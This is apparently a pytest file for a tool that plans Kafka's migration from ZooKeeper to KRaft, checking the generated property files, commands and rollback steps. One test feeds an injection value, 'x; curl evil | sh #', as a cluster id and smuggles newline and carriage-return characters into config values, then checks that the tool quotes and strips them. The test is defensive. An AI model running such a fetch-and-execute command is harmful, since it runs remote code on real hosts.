"""The properties of each step, as Kafka's documentation and KafkaConfig of 3.9 want them."""

import re
from dataclasses import replace

import pytest

from kwire.migration.operator.plan import (
    PlanInput,
    PlannedBroker,
    PlannedController,
    migration_plan,
)
from kwire.migration.operator.plan_files import MigrationStep, order_text, plan_files

BROKER = PlannedBroker(
    node_id=0,
    protocols={"PLAINTEXT": "PLAINTEXT", "SASL": "SASL_PLAINTEXT"},
    configs={
        "inter.broker.protocol.version": "3.9-IV0",
        "authorizer.class.name": "kafka.security.authorizer.AclAuthorizer",
    },
)


KNOWN = PlanInput(
    connect="zk1:2181/kafka",
    cluster_id="3Db5QLSqSZieL3rJBUUegA",
    brokers=(BROKER,),
    controllers=(
        PlannedController(node_id=3000, address="c1:9093"),
        PlannedController(node_id=3001, address="c2:9093"),
    ),
    version="3.9-IV0",
)


def steps(*brokers: PlannedBroker) -> dict[str, MigrationStep]:
    known = replace(KNOWN, brokers=brokers or (BROKER,))
    return {step.folder: step for step in migration_plan(known)}


def test_an_id_that_begins_with_a_hyphen_is_no_option_of_kafkas_tool() -> None:
    """One in 64 does; `kafka-storage.sh format -t -gxu...` fails: "expected one argument"."""
    commands = steps()["1-controllers"].actions
    assert any(" --cluster-id=3Db5QLSqSZieL3rJBUUegA " in command for command in commands)


def test_what_others_wrote_is_one_word_of_a_command_and_one_line_of_a_file() -> None:
    known = replace(KNOWN, cluster_id="x; curl evil | sh #")
    actions = migration_plan(known)[0].actions
    assert any(" --cluster-id='x; curl evil | sh #' " in action for action in actions)

    silent = replace(BROKER, unknown="line one\nauto.create=evil", protocols={"A\rB": "SSL"})
    (file,) = steps(silent)["2-brokers-in-migration-mode"].files
    assert "auto.create=evil" not in file.text.splitlines()
    assert "\r" not in file.text


@pytest.mark.parametrize(
    ("version", "warning"),
    [
        ("3.3-IV3", "below 3.4"),
        ("2.8", "below 3.4"),
        ("3.4-IV0", "several log.dirs need"),
        ("3.7-IV1", "several log.dirs need"),
        ("3.7-IV2", ""),
        ("3.7", ""),
        ("3.9.1", ""),
    ],
)
def test_a_version_that_does_not_migrate_is_warned_of(version: str, warning: str) -> None:
    configs = {"inter.broker.protocol.version": version, "log.dirs": "/a,/b"}
    (file,) = steps(replace(BROKER, configs=configs))["2-brokers-in-migration-mode"].files
    assert warning in file.warning
    assert bool(file.warning) is bool(warning)


def test_controllers_know_zookeeper_until_they_finalise() -> None:
    provisioned = steps()["1-controllers"].files[0]
    assert dict(provisioned.add) == {
        "process.roles": "controller",
        "node.id": "3000",
        "controller.quorum.voters": "3000@c1:9093,3001@c2:9093",
        "controller.listener.names": "CONTROLLER",
        "listeners": "CONTROLLER://:9093",
        "listener.security.protocol.map": "PLAINTEXT:PLAINTEXT,CONTROLLER:PLAINTEXT",
        "zookeeper.metadata.migration.enable": "true",
        "zookeeper.connect": "zk1:2181/kafka",
        "inter.broker.listener.name": "PLAINTEXT",
        "inter.broker.protocol.version": "3.9-IV0",
    }
    finalised = steps()["4-finalisation"].files[0]
    assert not [name for name in finalised.add if name.startswith(("zookeeper.", "inter."))]
    names = ("inter.broker.listener.name", "inter.broker.protocol.version")
    assert finalised.remove == ("zookeeper.", *names)


def test_controllers_reach_brokers_at_their_inter_broker_listener() -> None:
    """Without it a broker is refused: it has no listener that the controller knows (3.9)."""
    named = replace(BROKER, configs={"inter.broker.listener.name": "SASL"})
    file = steps(named)["1-controllers"].files[0]
    assert file.add["inter.broker.listener.name"] == "SASL"
    assert file.add["listener.security.protocol.map"] == "SASL:SASL_PLAINTEXT,CONTROLLER:PLAINTEXT"
    by_protocol = replace(BROKER, configs={"security.inter.broker.protocol": "SSL"})
    file = steps(by_protocol)["1-controllers"].files[0]
    assert file.add["inter.broker.listener.name"] == "SSL"
    assert file.add["listener.security.protocol.map"] == "SSL:SSL,CONTROLLER:PLAINTEXT"
    unknown = steps(PlannedBroker(node_id=0, unknown="refused"))["1-controllers"].files[0]
    assert "inter.broker.listener.name" not in unknown.add


def test_controllers_reach_zookeeper_as_the_brokers_do() -> None:
    configs = {
        "zookeeper.set.acl": "true",
        "zookeeper.ssl.client.enable": "true",
        "zookeeper.clientCnxnSocket": "org.apache.zookeeper.ClientCnxnSocketNetty",
        "password.encoder.secret": "",
    }
    plan = steps(replace(BROKER, configs=configs))
    session = {name: value for name, value in configs.items() if value}
    for step in ("1-controllers", "back-from-kraft-brokers"):
        assert session.items() <= dict(plan[step].files[0].add).items()
    actions = "; ".join(plan["1-controllers"].actions)
    assert "password.encoder.* as your brokers" in actions
    assert "zookeeper.ssl.* as your brokers" in actions
    assert "password.encoder." in plan["3-brokers-as-kraft"].files[0].remove
    assert "keep a copy" in plan["3-brokers-as-kraft"].actions[0]
    plain = "; ".join(steps()["1-controllers"].actions)
    assert "password.encoder" not in plain
    assert "zookeeper.ssl" not in plain


def test_brokers_in_migration_mode_keep_their_listeners_and_their_id() -> None:
    file = steps()["2-brokers-in-migration-mode"].files[0]
    assert dict(file.add) == {
        "broker.id": "0",
        "zookeeper.metadata.migration.enable": "true",
        "controller.quorum.voters": "3000@c1:9093,3001@c2:9093",
        "controller.listener.names": "CONTROLLER",
        "listener.security.protocol.map": (
            "PLAINTEXT:PLAINTEXT,SASL:SASL_PLAINTEXT,CONTROLLER:PLAINTEXT"
        ),
        "inter.broker.protocol.version": "3.9-IV0",
    }


def test_kraft_brokers_lose_zookeeper_and_get_krafts_authorizer() -> None:
    file = steps()["3-brokers-as-kraft"].files[0]
    assert file.add["process.roles"] == "broker"
    assert file.add["node.id"] == "0"
    authorizer = "org.apache.kafka.metadata.authorizer.StandardAuthorizer"
    assert file.add["authorizer.class.name"] == authorizer
    assert "zookeeper." in file.remove
    assert "broker.id" in file.remove


def test_the_ways_back_undo_the_steps() -> None:
    back = steps()["back-from-kraft-brokers"].files[0]
    assert back.remove == ("process.roles", "node.id")
    assert back.add["zookeeper.connect"] == "zk1:2181/kafka"
    assert back.add["authorizer.class.name"] == "kafka.security.authorizer.AclAuthorizer"
    last = steps()["back-from-dual-write"].files[0]
    assert last.remove == (
        "zookeeper.metadata.migration.enable",
        "controller.quorum.voters",
        "controller.listener.names",
    )


def test_the_last_way_back_keeps_the_version_and_takes_the_controllers_listener_away() -> None:
    """Also if the plan is made of a broker that is in migration mode already."""
    protocols = {**BROKER.protocols, "CONTROLLER": "PLAINTEXT"}
    for broker in (BROKER, replace(BROKER, protocols=protocols)):
        assert dict(steps(broker)["back-from-dual-write"].files[0].add) == {
            "broker.id": "0",
            "listener.security.protocol.map": "PLAINTEXT:PLAINTEXT,SASL:SASL_PLAINTEXT",
            "inter.broker.protocol.version": "3.9-IV0",
        }


def test_an_action_that_others_name_is_the_command() -> None:
    actions = steps()["back-from-dual-write"].actions
    assert actions[2] == "bin/zookeeper-shell.sh zk1:2181/kafka delete /controller"
    assert [number for number, text in enumerate(actions, 1) if "action 3" in text] == [1, 2]


def test_what_is_taken_away_for_kraft_is_put_back() -> None:
    assert steps()["3-brokers-as-kraft"].actions[0].startswith("keep a copy of each")
    assert "zookeeper.* and password.encoder.*" in steps()["back-from-kraft-brokers"].actions[0]


def test_commands_of_the_order_have_all_options() -> None:
    both = (
        "--zookeeper zk1:2181/kafka --zookeeper-config 'a file' --bootstrap-controller"
        " c1:9093,c2:9093 --command-config client.properties"
    )
    plan = replace(KNOWN, zookeeper_config="a file", command_config="client.properties")
    text = order_text(migration_plan(plan))
    commands = re.findall(r"kwire migration (\w+) (.*)", text)
    assert len(commands) == len(re.findall("kwire migration", text))
    assert {name for name, _ in commands} == {"verify", "status", "watch"}
    first, *others, hybrid, kraft = [options for _, options in commands]
    assert first == hybrid == both.partition(" --bootstrap")[0]
    assert {*others, kraft} == {both}


def test_a_file_says_whose_properties_it_changes() -> None:
    finalised = steps()["4-finalisation"].files[0].text
    assert "# Remove from the controller's properties:\n#   zookeeper.*\n" in finalised
    assert "# Set in the controller's properties:\nprocess.roles=controller\n" in finalised
    assert "server.properties" not in finalised
    assert "# Set in server.properties:\n" in steps()["3-brokers-as-kraft"].files[0].text


def test_what_a_broker_did_not_tell_stands_in_its_file() -> None:
    step = steps(PlannedBroker(node_id=1, unknown="b1:9092 refused"))["3-brokers-as-kraft"]
    text = "# Check this: the broker did not tell its configuration (b1:9092 refused)"
    assert text in step.files[0].text


def test_several_directories_need_a_later_version() -> None:
    old = PlannedBroker(
        node_id=1, configs={"log.dirs": "/a,/b", "inter.broker.protocol.version": "3.6-IV2"}
    )
    step = steps(old)["2-brokers-in-migration-mode"]
    assert "several log.dirs need" in step.files[0].text
    new = PlannedBroker(
        node_id=1, configs={"log.dirs": "/a,/b", "inter.broker.protocol.version": "3.9-IV0"}
    )
    assert "several" not in steps(new)["2-brokers-in-migration-mode"].files[0].text


def test_each_file_is_in_the_folder_of_its_step() -> None:
    names = [name for name, _ in plan_files([*steps().values()])]
    assert names[:3] == [
        "ORDER.txt",
        "1-controllers/controller-3000.properties",
        "1-controllers/controller-3001.properties",
    ]
    assert len(names) == len(set(names))
